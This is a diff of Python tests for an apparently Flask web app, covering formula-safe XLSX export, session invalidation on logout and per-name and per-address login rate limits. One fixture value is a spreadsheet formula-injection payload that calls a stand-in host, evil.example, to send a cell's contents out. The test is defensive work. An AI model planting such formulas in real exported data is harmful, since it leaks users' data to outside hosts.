@@ -63,7 +63,7 @@ def test_login_rejects_offsite_next(client):
 
 
 def test_login_rate_limited(app):
-    app.config["LOGIN_RATE_LIMIT"] = "3 per minute"
+    app.config["LOGIN_RATE_LIMIT"] = app.config["LOGIN_IP_RATE_LIMIT"] = "3 per minute"
     client = app.test_client()
     token = csrf_token(client)
     codes = [client.post("/login", data={"username": "commune", "password": "x", "csrf_token": token}).status_code
@@ -362,3 +362,46 @@ def test_pages_are_full_for_any_htmx_request(client, people, url):
     for headers in (HX, BOOSTED):
         r = client.get(url.format(c=a.commune_id, v=a.village_id, b=a.id), headers=headers)
         assert r.status_code == 200 and "<html" in r.get_data(as_text=True)
+
+
+def test_export_never_writes_formulas(client, people):
+    a, _, _ = people
+    a.full_name = '=HYPERLINK("http://evil.example/?x="&E3,"Xem")'
+    a.note = "@SUM(1,2)"
+    with_account(a, number="=SUM(1,2)", holder="+3+4")
+    db.session.commit()
+    login(client, "commune")
+    data = client.get("/export?format=xlsx").data
+    import zipfile
+    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    ws = load_workbook(io.BytesIO(data)).active
+    values = [c.value for row in ws.iter_rows() for c in row]
+    assert a.full_name in values and "=SUM(1,2)" in values and "+3+4" in values
+
+
+def test_logout_ends_the_session_cookie(app):
+    client = app.test_client()
+    login(client, "commune")
+    assert client.get("/search").status_code == 200
+    cookie = client.get_cookie("session").value
+    client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
+    thief = app.test_client()
+    thief.set_cookie("session", cookie)
+    r = thief.get("/search")
+    assert r.status_code == 302 and "/login" in r.headers["Location"]
+
+
+def test_login_limit_counts_failures_only_and_per_name(app):
+    app.config["LOGIN_RATE_LIMIT"] = "3 per minute"
+    app.config["LOGIN_IP_RATE_LIMIT"] = "6 per minute"
+    client = app.test_client()
+    for _ in range(5):  # several officers of one office logging in: never limited
+        login(client, "commune")
+        client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
+    token = csrf_token(client)
+    codes = [client.post("/login", data={"username": "admin", "password": "x", "csrf_token": token}).status_code
+             for _ in range(4)]
+    assert codes == [422, 422, 422, 429]
+    # Another name from the same office still logs in; the address limit is wider.
+    login(client, "commune")
